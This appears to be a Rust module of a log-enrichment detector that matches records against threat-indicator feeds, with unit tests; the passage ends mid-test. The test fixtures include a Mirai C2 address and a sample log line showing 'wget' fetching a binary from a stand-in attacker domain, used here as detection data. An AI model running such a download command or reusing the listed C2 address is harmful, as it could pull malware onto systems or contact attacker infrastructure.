//! The record path: one record in, a verdict and what to emit out.
//!
//! [`Engine::evaluate`] scans the record once for the fields the profiles and exclusions
//! need, picks the profile, looks each address, ip:port and hash up in the indicator set,
//! tries the exclusions on a hit, and writes the enrichment into a reused buffer. A miss
//! allocates nothing.

use std::collections::BTreeMap;
use std::net::IpAddr;

use crate::detector::{Detector, OutputPlacement};
use crate::indicator::{EntryId, IndicatorSet, IndicatorValue, Kind, Validity};
use crate::normalize::{normalize_domain_into, normalize_url, parse_ip, parse_port};
use crate::output::write_enriched;
use crate::record::{ReadError, RecordScanner, ScalarKind, ScannedRecord};
use crate::settings::{FieldFormat, Mode};
use crate::textrecord::{self, CefReader};

/// One indicator that matched a value of a record, with everything the feed said of it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct MatchReport {
    pub kind: Kind,
    /// The indicator, normalised (`194.48.251.24:80`).
    pub indicator: String,
    /// The record field the value was found in.
    pub field: String,
    /// The field's ASIM role (`DstIpAddr`, `TargetFileSHA256`).
    pub role: String,
    /// The value as the record has it; `address:port` for ip:port matches.
    pub observed: String,
    /// An ip:port indicator matched on its address alone.
    pub address_only: bool,
    pub feed: String,
    pub id: String,
    pub threat_type: String,
    pub malware: String,
    pub malware_printable: String,
    pub malware_alias: String,
    /// As the feed gives it, 0-100.
    pub confidence: Option<u8>,
    pub first_seen: Option<i64>,
    pub last_seen: Option<i64>,
    pub tags: Vec<String>,
    pub reference: String,
}

impl MatchReport {
    /// The confidence reported as `ThreatConfidence`: halved for address-only matches,
    /// which say less than the address and port together.
    pub fn effective_confidence(&self) -> Option<u8> {
        self.confidence
            .map(|c| if self.address_only { c / 2 } else { c })
    }
}

/// What the detector concluded about a record.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verdict {
    Miss,
    /// Matches, most confident first.
    Hit(Vec<MatchReport>),
    /// Matches that an exclusion rule suppressed.
    Suppressed {
        matches: Vec<MatchReport>,
        exclusion: String,
        reason: String,
    },
    /// Broken JSON or not UTF-8; passed through unchanged. (A line of text is read as
    /// `{"message": line}`, not unreadable.)
    Unreadable(ReadError),
}

/// What to send on for a record.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Emit<'a> {
    /// The record exactly as it came in.
    Unchanged,
    /// The record with the enrichment added.
    Enriched(&'a [u8]),
    /// Nothing (hits-only mode).
    Dropped,
}

/// The verdict on a record and what to emit for it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Outcome<'a> {
    pub verdict: Verdict,
    pub emit: Emit<'a>,
}

/// Running totals. Names are those of the kinds, exclusions and profiles.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Counters {
    pub records_in: u64,
    pub records_out: u64,
    pub unreadable: u64,
    pub without_profile: u64,
    pub hits: u64,
    pub suppressed: u64,
    pub address_only_hits: u64,
    pub dropped_misses: u64,
    pub dropped_suppressed: u64,
    pub output_key_collisions: u64,
    /// Values that matched an indicator past its end of validity (not reported as hits).
    pub expired: u64,
    /// Values that matched an indicator before its start of validity (not reported).
    pub not_yet_valid: u64,
    /// Records that were a line of text rather than JSON, read as `{"message": line}`.
    pub text_lines: u64,
    /// Records read as a CEF message (a text line, or a record's text field).
    pub cef_messages: u64,
    /// Matching values by indicator kind, suppressed ones included.
    pub hits_by_kind: BTreeMap<String, u64>,
    pub suppressions_by_exclusion: BTreeMap<String, u64>,
    pub records_by_profile: BTreeMap<String, u64>,
}

impl Counters {
    /// Adds `other` to these totals (several workers, or instances lost to traps).
    pub fn add(&mut self, other: &Counters) {
        self.records_in += other.records_in;
        self.records_out += other.records_out;
        self.unreadable += other.unreadable;
        self.without_profile += other.without_profile;
        self.hits += other.hits;
        self.suppressed += other.suppressed;
        self.address_only_hits += other.address_only_hits;
        self.dropped_misses += other.dropped_misses;
        self.dropped_suppressed += other.dropped_suppressed;
        self.output_key_collisions += other.output_key_collisions;
        self.expired += other.expired;
        self.not_yet_valid += other.not_yet_valid;
        self.text_lines += other.text_lines;
        self.cef_messages += other.cef_messages;
        for (into, from) in [
            (&mut self.hits_by_kind, &other.hits_by_kind),
            (
                &mut self.suppressions_by_exclusion,
                &other.suppressions_by_exclusion,
            ),
            (&mut self.records_by_profile, &other.records_by_profile),
        ] {
            for (name, count) in from {
                *into.entry(name.clone()).or_default() += count;
            }
        }
    }
}

impl std::fmt::Display for Counters {
    /// One summary line, as operators read it in a log.
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let join = |m: &BTreeMap<String, u64>| {
            m.iter()
                .map(|(k, v)| format!("{k}={v}"))
                .collect::<Vec<_>>()
                .join(",")
        };
        write!(
            f,
            "records_in={} records_out={} hits={} suppressed={} unreadable={} without_profile={} \
             dropped_misses={} dropped_suppressed={} address_only_hits={} output_key_collisions={} \
             expired={} not_yet_valid={} text_lines={} cef_messages={} hits_by_kind=[{}] \
             suppressions=[{}] profiles=[{}]",
            self.records_in,
            self.records_out,
            self.hits,
            self.suppressed,
            self.unreadable,
            self.without_profile,
            self.dropped_misses,
            self.dropped_suppressed,
            self.address_only_hits,
            self.output_key_collisions,
            self.expired,
            self.not_yet_valid,
            self.text_lines,
            self.cef_messages,
            join(&self.hits_by_kind),
            join(&self.suppressions_by_exclusion),
            join(&self.records_by_profile),
        )
    }
}

/// A match found during a scan, before it is described.
#[derive(Debug, Clone)]
struct FoundMatch {
    entry: EntryId,
    /// The indicator as normalised (`10.0.0.0/8`, `evil.example`).
    indicator: String,
    /// How precisely the indicator names the value: 255 for an exact match, the prefix
    /// length for a network, less for a parent domain. More specific matches come first.
    specificity: u8,
    field: crate::record::Slot,
    role: String,
    observed: String,
    address_only: bool,
}

/// A detector with the buffers and counters of the record path. One per thread.
#[derive(Debug)]
pub struct Engine {
    detector: Detector,
    scanner: RecordScanner,
    output: Vec<u8>,
    found: Vec<FoundMatch>,
    counters: Counters,
    /// Per-index counts for the current detector, folded into `counters` on read and swap.
    by_kind: [u64; Kind::ALL.len()],
    by_exclusion: Vec<u64>,
    by_profile: Vec<u64>,
    /// A text line wrapped as a record.
    line: String,
    cef: CefReader,
    /// A domain name being normalised; reused so that a miss allocates nothing.
    name: String,
}

impl Engine {
    /// An engine evaluating records against `detector`.
    pub fn new(detector: Detector) -> Engine {
        let mut engine = Engine {
            detector,
            scanner: RecordScanner::default(),
            output: Vec::new(),
            found: Vec::new(),
            counters: Counters::default(),
            by_kind: [0; Kind::ALL.len()],
            by_exclusion: Vec::new(),
            by_profile: Vec::new(),
            line: String::new(),
            cef: CefReader::default(),
            name: String::new(),
        };
        engine.reset_index_counts();
        engine
    }

    /// Swaps in a new detector (a reload); counters carry on. Returns the old detector.
    pub fn replace(&mut self, detector: Detector) -> Detector {
        self.fold_index_counts();
        let old = std::mem::replace(&mut self.detector, detector);
        self.reset_index_counts();
        old
    }

    /// The detector in force.
    pub fn detector(&self) -> &Detector {
        &self.detector
    }

    /// The counters so far.
    pub fn counters(&self) -> Counters {
        let mut c = self.counters.clone();
        add_index_counts(
            &mut c,
            &self.detector,
            &self.by_kind,
            &self.by_exclusion,
            &self.by_profile,
        );
        c
    }

    fn fold_index_counts(&mut self) {
        let (kind, excl, prof) = (
            self.by_kind,
            self.by_exclusion.clone(),
            self.by_profile.clone(),
        );
        add_index_counts(&mut self.counters, &self.detector, &kind, &excl, &prof);
    }

    fn reset_index_counts(&mut self) {
        self.by_kind = [0; Kind::ALL.len()];
        self.by_exclusion = vec![0; self.detector.exclusions.len()];
        self.by_profile = vec![0; self.detector.profiles.len()];
    }

    /// Evaluates one record (JSON object text) at `now` (seconds since the Unix epoch).
    pub fn evaluate(&mut self, raw: &[u8], now: i64) -> Outcome<'_> {
        let Engine {
            detector,
            scanner,
            output,
            found,
            counters,
            by_kind,
            by_exclusion,
            by_profile,
            line,
            cef,
            name,
        } = self;
        let d = &*detector;
        counters.records_in += 1;

        // A text line is read as the record {"message": line}.
        let is_text_line = match textrecord::text_line(raw) {
            Some(text) => {
                counters.text_lines += 1;
                textrecord::wrap_line(line, text);
                true
            }
            None => false,
        };
        let record = if is_text_line { line.as_bytes() } else { raw };

        let scanned = match scanner.scan(&d.fields, record) {
            Ok(scanned) => scanned,
            Err(error) => {
                counters.unreadable += 1;
                counters.records_out += 1;
                return Outcome {
                    verdict: Verdict::Unreadable(error),
                    emit: Emit::Unchanged,
                };
            }
        };

        // Pick the profile; a CEF message in a text field is read as CommonSecurityLog.
        let mut profile = choose_profile(d, &scanned);
        let cef_row = match cef.read(d, profile, &scanned, is_text_line) {
            Some(Ok(row)) => {
                counters.cef_messages += 1;
                profile = d.cef_profile;
                Some(row)
            }
            _ => None,
        };
        let fields = cef_row.as_ref().unwrap_or(&scanned);

        // Look every value the profile names up.
        found.clear();
        match profile {
            Some(p) => {
                by_profile[p] += 1;
                find_matches(d, p, fields, now, found, counters, name);
            }
            None => counters.without_profile += 1,
        }
        if found.is_empty() {
            return if d.mode == Mode::HitsOnly {
                counters.dropped_misses += 1;
                Outcome {
                    verdict: Verdict::Miss,
                    emit: Emit::Dropped,
                }
            } else {
                counters.records_out += 1;
                Outcome {
                    verdict: Verdict::Miss,
                    emit: Emit::Unchanged,
                }
            };
        }

        // A hit: describe it, try the exclusions, count.
        let matches = describe(d, found);
        for m in &matches {
            by_kind[m.kind.index()] += 1;
            counters.address_only_hits += u64::from(m.address_only);
        }
        let suppressed_by = d.exclusions.iter().position(|e| e.condition.holds(fields));
        let verdict = match suppressed_by {
            Some(i) => {
                by_exclusion[i] += 1;
                counters.suppressed += 1;
                let rule = &d.exclusions[i];
                Verdict::Suppressed {
                    matches,
                    exclusion: rule.name.clone(),
                    reason: rule.reason.clone(),
                }
            }
            None => {
                counters.hits += 1;
                Verdict::Hit(matches)
            }
        };
        if suppressed_by.is_some() && d.mode == Mode::HitsOnly && !d.keep_suppressed {
            counters.dropped_suppressed += 1;
            return Outcome {
                verdict,
                emit: Emit::Dropped,
            };
        }

        let is_present = |name: &str| d.fields.get(name).is_some_and(|slot| scanned.has(slot));
        let profile_name = profile.map_or("", |p| d.profiles[p].name.as_str());
        let collided = write_enriched(
            output,
            record,
            &scanned,
            &d.output,
            &is_present,
            profile_name,
            &verdict,
        );
        if collided {
            counters.output_key_collisions += 1;
        }
        counters.records_out += 1;
        Outcome {
            verdict,
            emit: Emit::Enriched(output),
        }
    }
}

fn add_index_counts(
    c: &mut Counters,
    d: &Detector,
    by_kind: &[u64],
    by_exclusion: &[u64],
    by_profile: &[u64],
) {
    for (kind, &n) in Kind::ALL.iter().zip(by_kind) {
        if n > 0 {
            *c.hits_by_kind.entry(kind.name().to_string()).or_default() += n;
        }
    }
    for (rule, &n) in d.exclusions.iter().zip(by_exclusion) {
        if n > 0 {
            *c.suppressions_by_exclusion
                .entry(rule.name.clone())
                .or_default() += n;
        }
    }
    for (profile, &n) in d.profiles.iter().zip(by_profile) {
        if n > 0 {
            *c.records_by_profile
                .entry(profile.name.clone())
                .or_default() += n;
        }
    }
}

/// The profile for a record: the forced one, the one its `Type` field names, or the first
/// whose detection fields it has.
fn choose_profile(d: &Detector, scanned: &ScannedRecord<'_>) -> Option<usize> {
    if d.forced_profile.is_some() {
        return d.forced_profile;
    }
    if let Some((ScalarKind::String, table)) = scanned.first(d.type_slot)
        && let Some(p) = d.profiles.iter().position(|p| p.name == table)
    {
        return Some(p);
    }
    // The first profile with a detection field the record has, found by the scan.
    scanned.detected().map(usize::from)
}

fn find_matches(
    d: &Detector,
    profile: usize,
    scanned: &ScannedRecord<'_>,
    now: i64,
    found: &mut Vec<FoundMatch>,
    counters: &mut Counters,
    name: &mut String,
) {
    let set = &d.indicators;
    let profile = &d.profiles[profile];
    let mut sink = Sink {
        set,
        now,
        found,
        counters,
    };
    // A field with a `table` applies only to rows of that table.
    let in_table = |table: &Option<String>, row: u32| match (table, profile.table_field) {
        (Some(table), Some(slot)) => {
            scanned.first_in_row(slot, row).map(|(_, t)| t) == Some(table.as_str())
        }
        _ => true,
    };

    if set.has_network_indicators() {
        for field in &profile.addresses {
            let at = (field.slot, field.role.as_str());
            // `with_port`: the text with the port, when the text has it; otherwise it is
            // written on a hit only, so a miss allocates nothing.
            let look_up = |sink: &mut Sink<'_>,
                           addr: IpAddr,
                           port: Option<u16>,
                           seen: &str,
                           with_port: Option<&str>| {
                find_address(sink, addr, at, seen);
                if let Some(port) = port {
                    let value = IndicatorValue::IpPort(addr, port);
                    if let Some(head) = set.lookup(&value) {
                        let written;
                        let observed = match with_port {
                            Some(text) => text,
                            None => {
                                written = observed_ip_port(seen, port);
                                &written
                            }
                        };
                        sink.push(head, &value, 255, at, observed, false);
                    }
                }
                if d.match_address_only {
                    find_address_only(sink, addr, port, at, seen);
                }
            };
            for (row, kind, text) in scanned.values_in_rows(field.slot) {
                if kind != ScalarKind::String || !in_table(&field.table, row) {
                    continue;
                }
                if field.format == FieldFormat::Text {
                    // Addresses in text carry the port written with them, if any.
                    crate::logtext::for_each_address(text, |addr, port, seen| {
                        let bare = crate::logtext::without_port(seen);
                        look_up(&mut sink, addr, port, bare, Some(seen));
                    });
                    continue;
                }
                let Some(addr) = parse_ip(text) else { continue };
                // The port of the same row: fields of one wrapped row stay paired.
                let port = field
                    .port
                    .and_then(|slot| scanned.first_in_row(slot, row))
                    .and_then(|(_, p)| parse_port(p));
                look_up(&mut sink, addr, port, text, None);
            }
        }
    }

    if set.has_hash_indicators() {
        for field in &profile.hashes {
            for (row, kind, text) in scanned.values_in_rows(field.slot) {
                if kind != ScalarKind::String || !in_table(&field.table, row) {
                    continue;
                }
                let mut look_up = |value: IndicatorValue, seen: &str| {
                    if let Some(head) = set.lookup(&value) {
                        let role =
                            format!("{}{}", field.role_prefix, hash_role_suffix(value.kind()));
                        sink.push(head, &value, 255, (field.slot, &role), seen, false);
                    }
                };
                match field.format {
                    FieldFormat::Value => {
                        if let Some(value) = crate::logtext::hash_value(text) {
                            look_up(value, text);
                        }
                    }
                    FieldFormat::Labelled => crate::logtext::for_each_labelled_hash(text, look_up),
                    FieldFormat::Text => crate::logtext::for_each_hash(text, look_up),
                }
            }
        }
    }

    if set.has_domains() {
        for field in &profile.domains {
            for (kind, text) in scanned.values(field.slot) {
                if kind == ScalarKind::String && normalize_domain_into(text, name) {
                    find_domain(d, &mut sink, name, (field.slot, &field.role), text);
                }
            }
        }
    }

    // Free text also holds domains and URLs: taken out of every field read as text for
    // addresses. Addresses in a URL were already taken out of the text above.
    if set.has_domains() || set.has_urls() {
        for field in profile.addresses.iter() {
            if field.format != FieldFormat::Text {
                continue;
            }
            let at = (field.slot, field.role.as_str());
            for (row, kind, text) in scanned.values_in_rows(field.slot) {
                if kind != ScalarKind::String || !in_table(&field.table, row) {
                    continue;
                }
                crate::logtext::for_each_url(text, |seen| {
                    let Some(url) = normalize_url(seen) else {
                        return;
                    };
                    if let Some(head) = set.lookup_text(Kind::Url, &url.text) {
                        sink.push(head, &url.text, 255, at, seen, false);
                    }
                    if set.has_domains()
                        && parse_ip(url.host()).is_none()
                        && normalize_domain_into(url.host(), name)
                    {
                        find_domain(d, &mut sink, name, at, seen);
                    }
                });
                if set.has_domains() {
                    crate::logtext::for_each_domain(text, |seen| {
                        if normalize_domain_into(seen, name) {
                            find_domain(d, &mut sink, name, at, seen);
                        }
                    });
                }
            }
        }
    }

    if !profile.urls.is_empty()
        && (set.has_urls() || set.has_domains() || set.has_network_indicators())
    {
        for field in &profile.urls {
            for (kind, text) in scanned.values(field.slot) {
                if kind != ScalarKind::String {
                    continue;
                }
                let at = (field.slot, field.role.as_str());
                // A bare host name (Defender's RemoteUrl often holds one) is a domain.
                if !text.contains('/') && normalize_domain_into(text, name) {
                    find_domain(d, &mut sink, name, at, text);
                    continue;
                }
                let Some(url) = normalize_url(text) else {
                    continue;
                };
                if let Some(head) = set.lookup_text(Kind::Url, &url.text) {
                    sink.push(head, &url.text, 255, at, text, false);
                }
                if let Some(addr) = parse_ip(url.host()) {
                    find_address(&mut sink, addr, at, text);
                } else if set.has_domains() && normalize_domain_into(url.host(), name) {
                    find_domain(d, &mut sink, name, at, text);
                }
            }
        }
    }
}

/// Where a value was found: its field and the field's role.
type At<'a> = (crate::record::Slot, &'a str);

/// Collects the matches of one record, leaving out (and counting) indicators that are not
/// valid at `now`.
struct Sink<'a> {
    set: &'a IndicatorSet,
    now: i64,
    found: &'a mut Vec<FoundMatch>,
    counters: &'a mut Counters,
}

impl Sink<'_> {
    fn push(
        &mut self,
        head: EntryId,
        indicator: &dyn std::fmt::Display,
        specificity: u8,
        (field, role): At<'_>,
        observed: &str,
        address_only: bool,
    ) {
        self.push_if(
            head,
            indicator,
            specificity,
            (field, role),
            observed,
            address_only,
            |_| true,
        );
    }

    #[allow(clippy::too_many_arguments, reason = "one call site per kind of match")]
    fn push_if(
        &mut self,
        head: EntryId,
        indicator: &dyn std::fmt::Display,
        specificity: u8,
        (field, role): At<'_>,
        observed: &str,
        address_only: bool,
        wanted: impl Fn(EntryId) -> bool,
    ) {
        for entry in self.set.chain(head) {
            if !wanted(entry) {
                continue;
            }
            match self.set.validity(entry, self.now) {
                Validity::Active => self.found.push(FoundMatch {
                    entry,
                    indicator: indicator.to_string(),
                    specificity,
                    field,
                    role: role.to_string(),
                    observed: observed.to_string(),
                    address_only,
                }),
                Validity::Expired => self.counters.expired += 1,
                Validity::NotYetValid => self.counters.not_yet_valid += 1,
            }
        }
    }
}

/// An address: the address itself, then every network holding it, most specific first.
fn find_address(sink: &mut Sink<'_>, addr: IpAddr, at: At<'_>, text: &str) {
    let set = sink.set;
    let value = IndicatorValue::Ip(addr);
    if let Some(head) = set.lookup(&value) {
        sink.push(head, &value, 255, at, text, false);
    }
    if set.has_networks() {
        set.lookup_networks(addr, |net, head| {
            sink.push(head, &net, net.prefix_len(), at, text, false);
        });
    }
}

/// A normalised domain name: the name itself, then each parent name for feeds that match
/// subdomains. Only whole labels are compared, so `michigan.org` never finds `higan.org`.
fn find_domain(d: &Detector, sink: &mut Sink<'_>, name: &str, at: At<'_>, text: &str) {
    let set = sink.set;
    if let Some(head) = set.lookup_text(Kind::Domain, name) {
        sink.push(head, &name, 255, at, text, false);
    }
    if !d.feed_subdomains.contains(&true) {
        return;
    }
    let mut parent = name;
    let mut levels: u8 = 0;
    while let Some((_, rest)) = parent.split_once('.') {
        if !rest.contains('.') {
            break;
        }
        parent = rest;
        levels = levels.saturating_add(1);
        if let Some(head) = set.lookup_text(Kind::Domain, parent) {
            let subdomains = |e: EntryId| {
                d.feed_subdomains
                    .get(usize::from(set.feed_of(e)))
                    .copied()
                    .unwrap_or(false)
            };
            sink.push_if(
                head,
                &parent,
                254u8.saturating_sub(levels),
                at,
                text,
                false,
                subdomains,
            );
        }
    }
}

/// Address-only matches: ip:port indicators with this address on another port.
fn find_address_only(sink: &mut Sink<'_>, addr: IpAddr, port: Option<u16>, at: At<'_>, text: &str) {
    for &(indicator_port, head) in sink.set.lookup_port_address(addr) {
        if Some(indicator_port) != port {
            let observed = port.map_or_else(|| text.to_string(), |p| observed_ip_port(text, p));
            let value = IndicatorValue::IpPort(addr, indicator_port);
            sink.push(head, &value, 255, at, &observed, true);
        }
    }
}

fn observed_ip_port(address_text: &str, port: u16) -> String {
    if address_text.contains(':') {
        format!("[{address_text}]:{port}")
    } else {
        format!("{address_text}:{port}")
    }
}

fn hash_role_suffix(kind: Kind) -> &'static str {
    match kind {
        Kind::Md5 => "MD5",
        Kind::Sha1 => "SHA1",
        _ => "SHA256",
    }
}

/// Turns found matches into reports, most confident first; exact matches before
/// address-only ones, ip:port before a bare address.
fn describe(d: &Detector, found: &[FoundMatch]) -> Vec<MatchReport> {
    let mut reports: Vec<(u8, MatchReport)> = found
        .iter()
        .map(|f| {
            let entry = d.indicators.get(f.entry);
            let ctx = entry.context;
            let report = MatchReport {
                kind: entry.kind,
                indicator: f.indicator.clone(),
                field: d.fields.name(f.field).to_string(),
                role: f.role.clone(),
                observed: f.observed.clone(),
                address_only: f.address_only,
                feed: d
                    .feed_names
                    .get(usize::from(ctx.feed))
                    .cloned()
                    .unwrap_or_default(),
                id: entry.id.to_string(),
                threat_type: ctx.threat_type.to_string(),
                malware: ctx.malware.to_string(),
                malware_printable: ctx.malware_printable.to_string(),
                malware_alias: ctx.malware_alias.to_string(),
                confidence: entry.confidence,
                first_seen: entry.first_seen,
                last_seen: entry.last_seen,
                tags: ctx.tags.iter().map(|t| t.to_string()).collect(),
                reference: ctx.reference.to_string(),
            };
            (f.specificity, report)
        })
        .collect();
    reports.sort_by_key(|(specificity, m)| {
        (
            m.address_only,
            std::cmp::Reverse(*specificity),
            std::cmp::Reverse(m.effective_confidence()),
            m.kind != Kind::IpPort,
        )
    });
    reports.into_iter().map(|(_, m)| m).collect()
}

/// Whether the output placement is nested (used by tests and hosts to find the key).
pub fn output_key(d: &Detector) -> Option<&str> {
    match &d.output {
        OutputPlacement::Nested { names } => names.first().map(|(n, _)| n.as_str()),
        OutputPlacement::Flat { .. } => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::feed::{FeedFormat, FeedInput};

    const FEED: &[u8] = br#"{"7": [{"ioc_value": "194.48.251.24:80", "ioc_type": "ip:port",
        "threat_type": "botnet_cc", "malware": "elf.mirai", "malware_printable": "Mirai",
        "confidence_level": 75, "first_seen_utc": "2026-06-19 08:12:44"}],
        "8": [{"ioc_value": "194.48.251.24", "ioc_type": "ip", "threat_type": "payload_delivery",
        "malware_printable": "Other", "confidence_level": 40}]}"#;
    const HIT: &[u8] = br#"{"RemoteIP":"194.48.251.24","RemotePort":80}"#;

    fn engine(settings: &str) -> Engine {
        let input = FeedInput {
            name: "tf",
            format: FeedFormat::Auto,
            content: FEED,
        };
        Engine::new(Detector::build(&[input], settings).expect("builds").0)
    }

    fn enriched(outcome: Outcome<'_>) -> serde_json::Value {
        match outcome.emit {
            Emit::Enriched(bytes) => serde_json::from_slice(bytes).expect("output is JSON"),
            other => panic!("expected an enriched record, got {other:?}"),
        }
    }

    #[test]
    fn every_matching_indicator_is_listed_most_confident_first() {
        let mut e = engine("");
        let out = enriched(e.evaluate(HIT, 0));
        let matches = out["iocsieve"]["Matches"].as_array().unwrap();
        assert_eq!(matches.len(), 2);
        assert_eq!(matches[0]["Indicator"], "194.48.251.24:80");
        assert_eq!(matches[1]["IndicatorKind"], "ipv4");
        assert_eq!(out["iocsieve"]["ThreatName"], "Mirai");
        assert_eq!(e.counters().hits_by_kind["ip:port"], 1);
        assert_eq!(e.counters().hits_by_kind["ipv4"], 1);
    }

    #[test]
    fn flat_output_uses_the_prefix_and_never_overwrites() {
        let mut e = engine("[output]\nprefix = \"Ioc\"\n");
        let record = br#"{"RemoteIP":"194.48.251.24","RemotePort":80,"IocVerdict":"mine"}"#;
        let out = enriched(e.evaluate(record, 0));
        assert_eq!(out["IocVerdict"], "mine");
        assert_eq!(out["IocVerdict_1"], "hit");
        assert_eq!(out["IocThreatIpAddr"], "194.48.251.24");
        assert_eq!(e.counters().output_key_collisions, 1);
    }

    #[test]
    fn nested_output_moves_aside_for_an_existing_key() {
        let mut e = engine("");
        let record = br#"{"RemoteIP":"194.48.251.24","RemotePort":80,"iocsieve":1}"#;
        let out = enriched(e.evaluate(record, 0));
        assert_eq!(out["iocsieve"], 1);
        assert_eq!(out["iocsieve_1"]["Verdict"], "hit");
    }

    #[test]
    fn an_empty_object_and_whitespace_around_the_record_stay_valid() {
        let mut e = engine("profile = \"DeviceNetworkEvents\"");
        assert_eq!(e.evaluate(b"{}", 0).emit, Emit::Unchanged);
        let out = enriched(e.evaluate(
            b"  {\"RemoteIP\":\"194.48.251.24\",\"RemotePort\":\"80\"}  \r",
            0,
        ));
        assert_eq!(out["iocsieve"]["Verdict"], "hit");
    }

    #[test]
    fn hits_only_drops_misses_and_suppressed_hits_unless_kept() {
        let rule = "[[exclusions]]\nname = \"lab\"\nreason = \"lab traffic\"\nwhen = { field = \"LocalIP\", in_cidr = [\"10.9.0.0/16\"] }\n";
        let suppressed = br#"{"RemoteIP":"194.48.251.24","RemotePort":80,"LocalIP":"10.9.1.1"}"#;
        let miss = br#"{"RemoteIP":"8.8.8.8","RemotePort":53}"#;

        let mut e = engine(&format!("mode = \"hits-only\"\n{rule}"));
        assert_eq!(e.evaluate(miss, 0).emit, Emit::Dropped);
        let outcome = e.evaluate(suppressed, 0);
        assert!(
            matches!(&outcome.verdict, Verdict::Suppressed { exclusion, .. } if exclusion == "lab")
        );
        assert_eq!(outcome.emit, Emit::Dropped);
        assert!(matches!(e.evaluate(HIT, 0).emit, Emit::Enriched(_)));
        assert_eq!(e.evaluate(b"{\"broken", 0).emit, Emit::Unchanged);
        let c = e.counters();
        assert_eq!(
            (
                c.dropped_misses,
                c.dropped_suppressed,
                c.records_out,
                c.unreadable
            ),
            (1, 1, 2, 1)
        );
        assert_eq!(c.suppressions_by_exclusion["lab"], 1);

        let mut kept = engine(&format!(
            "mode = \"hits-only\"\nkeep_suppressed = true\n{rule}"
        ));
        let out = enriched(kept.evaluate(suppressed, 0));
        assert_eq!(out["iocsieve"]["Verdict"], "suppressed");
        assert_eq!(out["iocsieve"]["SuppressedBy"], "lab");
        assert_eq!(out["iocsieve"]["SuppressionReason"], "lab traffic");
    }

    #[test]
    fn counters_carry_over_a_reload() {
        let mut e = engine("");
        e.evaluate(HIT, 0);
        let input = FeedInput {
            name: "tf",
            format: FeedFormat::Auto,
            content: FEED,
        };
        e.replace(Detector::build(&[input], "").unwrap().0);
        e.evaluate(HIT, 0);
        let c = e.counters();
        assert_eq!((c.records_in, c.hits), (2, 2));
        assert_eq!(c.records_by_profile["DeviceNetworkEvents"], 2);
        assert_eq!(c.hits_by_kind["ip:port"], 2);
    }

    #[test]
    fn user_profiles_read_nested_dotted_and_array_fields() {
        let settings = r#"
            [[profiles]]
            name = "zeek-conn"
            detect_any = ["id.orig_h"]
            addresses = [{ field = "id.resp_h", port = "id.resp_p", role = "DstIpAddr" }]
            [[profiles]]
            name = "dns"
            detect_any = ["answers"]
            addresses = [{ field = "answers", role = "DstIpAddr" }]
        "#;
        let mut e = engine(settings);
        let dotted = br#"{"id.orig_h":"10.0.0.1","id.resp_h":"194.48.251.24","id.resp_p":80}"#;
        let nested = br#"{"id":{"orig_h":"10.0.0.1","resp_h":"194.48.251.24","resp_p":80}}"#;
        let array = br#"{"answers":["10.1.1.1","194.48.251.24"]}"#;
        for record in [&dotted[..], &nested[..]] {
            let out = enriched(e.evaluate(record, 0));
            assert_eq!(out["iocsieve"]["Profile"], "zeek-conn");
            assert_eq!(out["iocsieve"]["SourceField"], "id.resp_h");
            assert_eq!(out["iocsieve"]["IndicatorKind"], "ip:port");
        }
        let out = enriched(e.evaluate(array, 0));
        assert_eq!(out["iocsieve"]["Profile"], "dns");
        assert_eq!(out["iocsieve"]["IndicatorKind"], "ipv4");
        let miss = br#"{"id":{"orig_h":"10.0.0.1","resp_h":"194.48.251.24","resp_p":81}}"#;
        assert!(
            matches!(e.evaluate(miss, 0).verdict, Verdict::Hit(m) if m.len() == 1 && m[0].kind == Kind::Ipv4)
        );
    }

    /// The indicators a text line matched, by indicator and role.
    fn text_hits(settings: &str, feeds: &[(&str, &[u8])], line: &str) -> Vec<String> {
        let inputs: Vec<FeedInput<'_>> = feeds
            .iter()
            .map(|(name, content)| FeedInput::detected(name, content))
            .collect();
        let mut e = Engine::new(Detector::build(&inputs, settings).expect("builds").0);
        match e.evaluate(line.as_bytes(), 0).verdict {
            Verdict::Hit(m) => m
                .iter()
                .map(|m| format!("{} {}", m.indicator, m.role))
                .collect(),
            Verdict::Miss => Vec::new(),
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn text_lines_yield_domains_and_urls() {
        let domains: &[u8] = b"evil.example\nhigan.org\nother.example\n";
        let urls: &[u8] = b"http://evil.example/bins/x86\nhttp://evil.example/bins/arm\n";
        let settings = "[[feeds]]\nname = \"d\"\nformat = \"list:domain\"\n\
                        [[feeds]]\nname = \"u\"\nformat = \"list:url\"\n\
                        [guard]\nbuiltin = false\n";
        let feeds = [("d", domains), ("u", urls)];
        let line =
            "Jun 21 11:17:33 host sh: wget HTTP://Evil.Example/bins/x86; resolved evil.example.";
        assert_eq!(
            text_hits(settings, &feeds, line),
            [
                "http://evil.example/bins/x86 Message",
                "evil.example Message",
                "evil.example Message"
            ]
        );
        // Near misses: a suffix (`michigan.org` is not `higan.org`), a sibling name, a
        // subdomain under exact matching, and a name inside a path.
        let misses =
            "michigan.org a.other.example.net other.example.net sub.evil.example /srv/evil.example";
        assert_eq!(text_hits(settings, &feeds, misses), Vec::<String>::new());
        // A URL with another path: only its host, a listed domain, matches.
        assert_eq!(
            text_hits(settings, &feeds, "GET http://evil.example/bins/mips"),
            ["evil.example Message"]
        );
        // With subdomain matching, the name under a listed domain is a hit.
        let subdomains = settings.replace(
            "\"list:domain\"\n",
            "\"list:domain\"\ndomain_match = \"subdomains\"\n",
        );
        assert_eq!(
            text_hits(&subdomains, &feeds, "query sub.evil.example"),
            ["evil.example Message"]
        );
    }

    #[test]
    fn the_first_profile_with_a_field_of_the_record_reads_it() {
        let mut e = engine("");
        for (record, profile) in [
            // CommonSecurityLog (SourceIP) comes before DeviceNetworkEvents (RemoteIP).
            (
                &br#"{"RemoteIP":"1.2.3.4","SourceIP":"5.6.7.8"}"#[..],
                "CommonSecurityLog",
            ),
            // DeviceNetworkEvents comes before Sysmon (ProcessGuid), whatever the key order.
            (
                br#"{"ProcessGuid":"{x}","RemoteIP":"1.2.3.4"}"#,
                "DeviceNetworkEvents",
            ),
            (
                br#"{"ProcessGuid":"{x}","DestinationIp":"1.2.3.4"}"#,
                "Sysmon",
            ),
            // A field nested in an array row detects too.
            (
